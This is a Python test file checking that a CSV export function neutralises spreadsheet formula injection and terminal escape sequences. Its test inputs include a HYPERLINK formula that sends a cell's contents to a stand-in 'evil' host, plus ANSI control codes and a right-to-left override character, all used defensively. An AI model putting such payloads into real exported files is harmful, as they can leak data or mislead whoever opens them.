"""Rows as CSV."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.http.tables import to_csv

FORMULA = tuple("=+-@\t\r\n＝＋－＠")


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\n=1", " =1", "＝1", '=HYPERLINK("http://evil?"&A1)']
)
def test_a_text_that_a_spreadsheet_would_compute_is_a_text(text: str) -> None:
    assert read(to_csv(["a"], [[text]])) == [["a"], [f"'{text}"]]


def test_numbers_are_written_as_numbers_and_none_is_empty() -> None:
    assert to_csv(["a", "b", "c", "d"], [[-1, 0.5, None, "x"]]) == '"a","b","c","d"\r\n-1,0.5,"","x"\r\n'


@given(
    st.lists(st.text(st.characters(exclude_categories=["Cc", "Cf", "Cs", "Co", "Zl", "Zp"])), min_size=1, max_size=3)
)
def test_any_text_is_one_cell_that_begins_no_formula(cells: list[str]) -> None:
    (row,) = read(to_csv(["x"] * len(cells), [cells]))[1:]
    assert [
        cell.removeprefix("'") if cell != original else cell for cell, original in zip(row, cells, strict=True)
    ] == cells
    assert not any(cell.lstrip(" ").startswith(FORMULA) for cell in row)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("a\x1b[2Jb", "a\\x1b[2Jb"),
        ("\x07", "\\x07"),
        ("a\rb", "a\\rb"),
        ("\u202eexe", "\\u202eexe"),
        ("\x9b1m", "\\x9b1m"),
        ("\r=1", "'\\r=1"),
        ("两个 GPU\n\tx", "两个 GPU\n\tx"),
    ],
)
def test_n10_a_terminal_obeys_nothing_of_a_table(text: str, cell: str) -> None:
    assert read(to_csv(["a"], [[text]])) == [["a"], [cell]]
